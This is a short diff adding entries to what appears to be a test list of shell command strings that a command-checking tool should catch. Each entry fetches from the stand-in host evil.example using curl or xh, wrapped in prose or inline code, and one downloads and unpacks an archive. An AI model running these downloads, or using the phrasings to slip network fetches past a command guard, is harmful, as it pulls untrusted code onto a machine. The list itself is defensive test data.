@@ -38,6 +38,13 @@ MORE = [
     "- Fetch both: curl localhost:8080/a evil.example; then merge them.",
     "curl localhost evil.example. Then check the output.",
     "- `xh get evil.example`",
+    # a flag's value is never prose, and inline code is no prose (the review found these passed
+    # once the walker learnt to stop at prose; the first two were refused before it)
+    "curl -sL the evil.example -o vendor.tgz && tar xzf vendor.tgz",
+    "curl -fsS to evil.example",
+    "curl -s \u00e9 evil.example",
+    "Run `curl a evil.example -o /tmp/x` now",
+    "Try `curl x, evil.example` first",
 ]
 
 
